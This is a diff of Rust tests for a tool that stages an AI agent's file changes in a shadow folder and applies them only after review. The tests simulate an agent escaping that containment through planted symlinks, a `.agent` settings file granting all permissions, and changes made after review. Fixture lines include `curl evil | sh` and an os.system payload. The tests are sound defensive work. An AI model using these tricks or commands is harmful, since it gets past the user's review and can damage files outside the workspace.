@@ -262,7 +262,7 @@ fn paths_changed_in_the_real_folder_are_conflicts_and_nothing_is_applied() {
         ("deleted", |r: &Path| {
             std::fs::remove_file(r.join("src/lib.rs")).unwrap()
         }),
-        ("created", |r: &Path| {
+        ("exists", |r: &Path| {
             write(r, "src/new.rs", "made by the user\n")
         }),
     ] {
@@ -363,7 +363,8 @@ fn commit_writes_nothing_through_links() {
             ..CommitOptions::default()
         })
         .unwrap_err();
-    assert!(matches!(err, WorkspaceError::RolledBack { .. }), "{err}");
+    // Refused before anything is written: the link is found while the real side is read.
+    assert!(matches!(err, WorkspaceError::NotBeneath { .. }), "{err}");
     assert!(!f.outside.path().join("keep.txt").exists());
 }
 
@@ -420,4 +421,319 @@ fn a_shadow_inside_the_real_folder_is_refused() {
     };
     let err = Workspace::import(f.real.path(), &opts).unwrap_err();
     assert!(err.to_string().contains("overlap"), "{err}");
+}
+
+// Issue 25, part A: data safety.
+
+/// Every path under `root` with what it is (directories too, so a leftover directory or
+/// temporary file shows): `d`, `l -> target`, or `f <mode> <content>`.
+fn tree(root: &Path) -> BTreeMap<String, String> {
+    let mut out = BTreeMap::new();
+    fn go(root: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
+        for e in std::fs::read_dir(dir).unwrap() {
+            let p = e.unwrap().path();
+            let rel = p.strip_prefix(root).unwrap().to_str().unwrap().to_owned();
+            let meta = std::fs::symlink_metadata(&p).unwrap();
+            if meta.file_type().is_symlink() {
+                let t = std::fs::read_link(&p).unwrap();
+                out.insert(rel, format!("l -> {}", t.display()));
+            } else if meta.is_dir() {
+                out.insert(rel, "d".into());
+                go(root, &p, out);
+            } else {
+                let mode = meta.permissions().mode() & 0o777;
+                let text = std::fs::read_to_string(&p).unwrap_or_default();
+                out.insert(rel, format!("f {mode:o} {text}"));
+            }
+        }
+    }
+    go(root, root, &mut out);
+    out
+}
+
+#[test]
+fn refresh_never_writes_through_a_link_the_agent_planted_in_the_shadow() {
+    for absolute in [false, true] {
+        let f = fixture();
+        let mut ws = import(&f);
+        let s = ws.shadow().to_path_buf();
+        write(f.outside.path(), "notes.txt", "the victim's file\n");
+        let victim_before = tree(f.outside.path());
+        // The agent: `rm -r src && ln -s <outside> src`.
+        std::fs::remove_dir_all(s.join("src")).unwrap();
+        let target = if absolute {
+            f.outside.path().to_path_buf()
+        } else {
+            let depth = s.components().count();
+            let mut up = std::path::PathBuf::new();
+            for _ in 0..depth {
+                up.push("..");
+            }
+            up.join(f.outside.path().strip_prefix("/").unwrap())
+        };
+        std::os::unix::fs::symlink(&target, s.join("src")).unwrap();
+        // The user adds a file under src/ in the real folder, and edits one there.
+        write(f.real.path(), "src/notes.txt", "the user's notes\n");
+        write(f.real.path(), "src/main.rs", "fn main() { edited() }\n");
+        let report = ws.refresh().unwrap();
+        assert!(
+            report.conflicts.contains(&"src/notes.txt".to_owned()),
+            "{report:?}"
+        );
+        assert!(
+            !report.pulled.iter().any(|p| p.starts_with("src/")),
+            "{report:?}"
+        );
+        assert_eq!(
+            tree(f.outside.path()),
+            victim_before,
+            "absolute link: {absolute}"
+        );
+        assert_eq!(std::fs::read_link(s.join("src")).unwrap(), target);
+    }
+}
+
+#[test]
+fn a_reserved_name_in_the_shadow_is_never_committed_whatever_it_is() {
+    let f = fixture();
+    let mut ws = import(&f);
+    let s = ws.shadow().to_path_buf();
+    let real_agent = tree(&f.real.path().join(".agent"));
+    // `ln -s cfg .agent` with cfg/settings.json in the shadow; a file and a link named
+    // `.agent` or `.git` deeper down.
+    write(&s, "cfg/settings.json", "{\"permissions\": \"all\"}\n");
+    std::os::unix::fs::symlink("cfg", s.join(".agent")).unwrap();
+    write(&s, "sub/.agent", "a file named .agent\n");
+    std::os::unix::fs::symlink("../cfg", s.join("sub/.git")).unwrap();
+    let review = ws.review().unwrap();
+    let paths: Vec<&str> = review.paths().iter().map(|p| p.path.as_str()).collect();
+    assert_eq!(paths, ["cfg/settings.json"]);
+    ws.commit_review(&review, &CommitOptions::default())
+        .unwrap();
+    let meta = std::fs::symlink_metadata(f.real.path().join(".agent")).unwrap();
+    assert!(
+        meta.is_dir(),
+        "real/.agent is no longer the user's directory"
+    );
+    assert_eq!(tree(&f.real.path().join(".agent")), real_agent);
+    assert!(!f.real.path().join("sub").exists());
+    // And the status never shows them either.
+    assert!(ws.status().unwrap().is_empty());
+}
+
+#[test]
+fn a_link_planted_in_the_real_folder_after_the_review_is_never_written_through() {
+    for planted in ["nested", "fresh"] {
+        let f = fixture();
+        let mut ws = import(&f);
+        let s = ws.shadow().to_path_buf();
+        write(&s, "nested/keep.txt", "agent\n");
+        write(&s, "fresh/new.txt", "agent\n");
+        write(&s, "README.md", "# agent\n");
+        let review = ws.review().unwrap();
+        // Between the review and the commit, a directory of the real folder (existing, or
+        // one the commit would create) becomes a link to elsewhere.
+        let dir = f.real.path().join(planted);
+        let _ = std::fs::remove_dir_all(&dir);
+        std::os::unix::fs::symlink(f.outside.path(), &dir).unwrap();
+        let before = tree(f.real.path());
+        let outside = tree(f.outside.path());
+        let err = ws
+            .commit_review(
+                &review,
+                &CommitOptions {
+                    force: vec!["nested/keep.txt".into()],
+                    ..CommitOptions::default()
+                },
+            )
+            .unwrap_err();
+        assert!(
+            matches!(err, WorkspaceError::NotBeneath { .. }),
+            "{planted}: {err}"
+        );
+        assert!(err.to_string().contains("is a symlink"), "{err}");
+        assert_eq!(tree(f.outside.path()), outside, "{planted}");
+        assert_eq!(
+            tree(f.real.path()),
+            before,
+            "{planted}: something was applied"
+        );
+    }
+}
+
+#[test]
+fn a_path_that_exists_in_the_real_folder_is_never_an_add() {
+    let f = fixture();
+    let r = f.real.path();
+    write(r, ".gitignore", "target/\n*.log\n.env\n");
+    write(r, "config/.env", "SECRET=the user's\n");
+    let mut ws = import(&f);
+    let s = ws.shadow().to_path_buf();
+    assert!(
+        !s.join("config/.env").exists(),
+        "an ignored file was imported"
+    );
+    write(&s, "config/.gitignore", "!.env\n");
+    write(&s, "config/.env", "SECRET=the agent's\n");
+    let review = ws.review().unwrap();
+    assert!(
+        review
+            .changes()
+            .changes
+            .iter()
+            .any(|c| c.path == "config/.env" && c.kind == ChangeKind::Added)
+    );
+    let err = ws
+        .commit_review(&review, &CommitOptions::default())
+        .unwrap_err();
+    let WorkspaceError::Conflicts(conflicts) = &err else {
+        panic!("{err}");
+    };
+    assert_eq!(conflicts.len(), 1, "{conflicts:?}");
+    assert_eq!(
+        (conflicts[0].path.as_str(), conflicts[0].why.as_str()),
+        ("config/.env", "exists")
+    );
+    assert_eq!(
+        std::fs::read_to_string(r.join("config/.env")).unwrap(),
+        "SECRET=the user's\n"
+    );
+    assert!(
+        !r.join("config/.gitignore").exists(),
+        "something was applied"
+    );
+    // The same content is no conflict: the add is already there.
+    write(&s, "config/.env", "SECRET=the user's\n");
+    ws.commit(&CommitOptions::default()).unwrap();
+    assert_eq!(
+        std::fs::read_to_string(r.join("config/.gitignore")).unwrap(),
+        "!.env\n"
+    );
+}
+
+#[test]
+fn a_failed_commit_really_rolls_back_whatever_the_names() {
+    let f = fixture();
+    let r = f.real.path();
+    write(r, "a.txt", "the user's a\n");
+    write(
+        r,
+        "a.agent-restore/inside.txt",
+        "a directory with the old backup name\n",
+    );
+    let mut ws = import(&f);
+    let s = ws.shadow().to_path_buf();
+    let long = "n".repeat(250);
+    write(&s, "a.txt", "the agent's a\n");
+    write(&s, "b.agent-restore/x.txt", "new dir\n");
+    write(&s, &long, "a 250-byte name\n");
+    std::fs::remove_file(s.join("gone.txt")).unwrap();
+    let before = tree(r);
+    let state_before = tree(ws.state_dir());
+    let ops = ws.review().unwrap().paths().len();
+    assert_eq!(ops, 4);
+    for fail_after in 0..=ops {
+        let err = ws
+            .commit(&CommitOptions {
+                fail_after: Some(fail_after),
+                ..CommitOptions::default()
+            })
+            .err();
+        if fail_after == ops {
+            // Past the last change: nothing fails.
+            assert!(err.is_none(), "{err:?}");
+            break;
+        }
+        let err = err.unwrap();
+        assert!(
+            matches!(err, WorkspaceError::RolledBack { .. }),
+            "{fail_after}: {err}"
+        );
+        assert!(err.to_string().contains("every change was rolled back"));
+        assert_eq!(tree(r), before, "after failing at {fail_after}");
+        // No backup or staging left behind (the lock file stays), and none beside the
+        // targets.
+        let state_now = tree(ws.state_dir());
+        let new: Vec<&String> = state_now
+            .keys()
+            .filter(|k| !state_before.contains_key(*k) && *k != "lock")
+            .collect();
+        assert!(new.is_empty(), "{new:?}");
+    }
+    assert_eq!(
+        std::fs::read_to_string(r.join(&long)).unwrap(),
+        "a 250-byte name\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(r.join("a.txt")).unwrap(),
+        "the agent's a\n"
+    );
+    assert!(ws.status().unwrap().is_empty());
+}
+
+#[test]
+fn commit_applies_exactly_the_review_and_refuses_what_changed_since() {
+    let f = fixture();
+    let r = f.real.path();
+    let mut ws = import(&f);
+    let s = ws.shadow().to_path_buf();
+    write(&s, "app.py", "print('reviewed')\n");
+    let review = ws.review().unwrap();
+    let reviewed: Vec<(&str, Option<&str>)> = review
+        .paths()
+        .iter()
+        .map(|p| (p.path.as_str(), p.new.as_ref().map(|e| e.sha256.as_str())))
+        .collect();
+    assert_eq!(reviewed.len(), 1);
+    assert_eq!(reviewed[0].0, "app.py");
+    // After the review: a new file appears in the shadow. It is not applied; it stays pending.
+    write(&s, "evil.sh", "curl evil | sh\n");
+    let report = ws
+        .commit_review(&review, &CommitOptions::default())
+        .unwrap();
+    assert_eq!(report.applied, ["app.py"]);
+    assert!(!r.join("evil.sh").exists());
+    let pending = ws.status().unwrap();
+    assert_eq!(pending.changes.len(), 1);
+    assert_eq!(pending.changes[0].path, "evil.sh");
+    // A reviewed path whose content changed after the review refuses the whole commit.
+    write(&s, "app.py", "print('reviewed twice')\n");
+    let review = ws.review().unwrap();
+    write(&s, "app.py", "import os; os.system('evil')\n");
+    let before = tree(r);
+    let err = ws
+        .commit_review(&review, &CommitOptions::default())
+        .unwrap_err();
+    let WorkspaceError::ChangedSinceReview(paths) = &err else {
+        panic!("{err}");
+    };
+    assert_eq!(paths, &["app.py".to_owned()]);
+    assert!(err.to_string().contains("review"), "{err}");
+    assert_eq!(tree(r), before, "something was applied");
+    // So does a mode change, a file turned into a link, and a deletion.
+    for change in [
+        (|s: &Path| {
+            std::fs::set_permissions(s.join("app.py"), std::fs::Permissions::from_mode(0o755))
+                .unwrap()
+        }) as fn(&Path),
+        |s: &Path| {
+            std::fs::remove_file(s.join("app.py")).unwrap();
+            std::os::unix::fs::symlink("README.md", s.join("app.py")).unwrap();
+        },
+        |s: &Path| std::fs::remove_file(s.join("app.py")).unwrap(),
+    ] {
+        write(&s, "app.py", "print('v3')\n");
+        let _ = std::fs::remove_file(s.join("app.py"));
+        write(&s, "app.py", "print('v3')\n");
+        let review = ws.review().unwrap();
+        change(&s);
+        let err = ws
+            .commit_review(&review, &CommitOptions::default())
+            .unwrap_err();
+        assert!(
+            matches!(err, WorkspaceError::ChangedSinceReview(_)),
+            "{err}"
+        );
+        assert_eq!(tree(r), before, "something was applied");
+    }
 }
